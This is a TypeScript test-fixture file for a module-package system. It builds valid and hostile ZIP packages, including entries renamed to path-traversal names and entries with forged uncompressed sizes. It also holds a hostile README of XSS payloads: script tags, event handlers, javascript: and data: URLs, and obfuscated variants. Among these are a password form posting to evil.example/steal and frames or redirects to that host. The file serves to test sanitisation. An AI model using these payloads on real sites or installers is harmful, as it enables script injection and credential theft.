/** Real module packages for tests, well-formed and hostile. */
import { PNG } from "pngjs";
import { buildPackage, type PackageEntry } from "../../../packages/mpkg/src/archive";

export { zip } from "../../../packages/mpkg/src/archive";

export function manifest(overrides: Record<string, unknown> = {}): Record<string, unknown> {
  return { id: "acme.charts", name: "Charts", version: "1.0.0", summary: "Draw bar charts and pie charts.", ...overrides };
}

/** A valid package: module.json plus some code. */
export function modulePackage(overrides: Record<string, unknown> = {}, extra: PackageEntry[] = []): Promise<Buffer> {
  return buildPackage(manifest(overrides), [
    { name: "dist/index.js", content: `export const version = ${JSON.stringify(overrides.version ?? "1.0.0")};\n`.repeat(20) },
    ...extra,
  ]);
}

/**
 * Replaces, in both the local headers and the central directory, an entry name with another of
 * the same length: how tests make entries a ZIP writer refuses to write ('../x', '/etc/x').
 */
export function renameEntry(archive: Buffer, from: string, to: string): Buffer {
  if (from.length !== to.length) throw new Error("Names must have the same length.");
  const patched = Buffer.from(archive);
  const needle = Buffer.from(from);
  let at = patched.indexOf(needle);
  if (at < 0) throw new Error(`'${from}' is not in the archive.`);
  while (at >= 0) {
    Buffer.from(to).copy(patched, at);
    at = patched.indexOf(needle, at + needle.length);
  }
  return patched;
}

/** Rewrites the uncompressed size one entry declares, in its local header and its central entry alike. */
export function declareUncompressedSize(archive: Buffer, entryName: string, size: number): Buffer {
  const patched = Buffer.from(archive);
  const headers = [
    { signature: 0x04034b50, nameLengthAt: 26, nameAt: 30, sizeAt: 22 },
    { signature: 0x02014b50, nameLengthAt: 28, nameAt: 46, sizeAt: 24 },
  ];
  let found = 0;
  for (let at = 0; at + 4 <= patched.length; at += 1) {
    const header = headers.find(({ signature }) => patched.readUInt32LE(at) === signature);
    if (!header) continue;
    const nameLength = patched.readUInt16LE(at + header.nameLengthAt);
    if (patched.subarray(at + header.nameAt, at + header.nameAt + nameLength).toString() !== entryName) continue;
    patched.writeUInt32LE(size, at + header.sizeAt);
    found += 1;
  }
  if (found !== 2) throw new Error(`No local and central entry '${entryName}'.`);
  return patched;
}

/** A real PNG of the given size (a gradient, so it does not compress to nothing). */
export function pngImage(width: number, height: number): Buffer {
  const image = new PNG({ width, height });
  for (let at = 0; at < image.data.length; at += 4) {
    image.data[at] = (at / 4) % 256;
    image.data[at + 1] = 128;
    image.data[at + 2] = (at / 7) % 256;
    image.data[at + 3] = 255;
  }
  return PNG.sync.write(image);
}

/**
 * A README written to hurt whoever shows it: scripts, handlers, frames, forms, styles, and every
 * kind of URL that runs code, in raw HTML and in Markdown, next to content that must survive.
 */
export const HOSTILE_README = [
  "# Hostile <script>window.__pwned = 'heading'</script>",
  "",
  '<script>window.__pwned = "script"</script>',
  "",
  '<img src="x" onerror="window.__pwned = \'onerror\'"> <img src="https://tracker.example/pixel.png" alt="pixel">',
  "",
  "[markdown js](javascript:window.__pwned='md-link') [data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "",
  '<a href="JaVaScRiPt:window.__pwned=\'a\'">mixed case</a> <a href="&#106;avascript:window.__pwned=\'entity\'">entity</a>',
  "",
  '<iframe src="https://evil.example/"></iframe>',
  "",
  "<style>body { display: none }</style>",
  "",
  '<form action="https://evil.example/steal"><input name="password"><button>Log in</button></form>',
  "",
  '<div style="position:fixed;inset:0" onclick="window.__pwned=\'div\'">styled block</div>',
  "",
  '<svg onload="window.__pwned=\'svg\'"><script>window.__pwned="svg-script"</script></svg>',
  "",
  '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x"><meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/">',
  "",
  '<details open ontoggle="window.__pwned=\'details\'"><summary>More</summary>Hidden text</details>',
  "",
  "Safe: [the docs](https://docs.example/guide) and `code`.",
  "",
  "```js",
  'const tag = "<script>alert(1)</script>";',
  "```",
  "",
].join("\n");
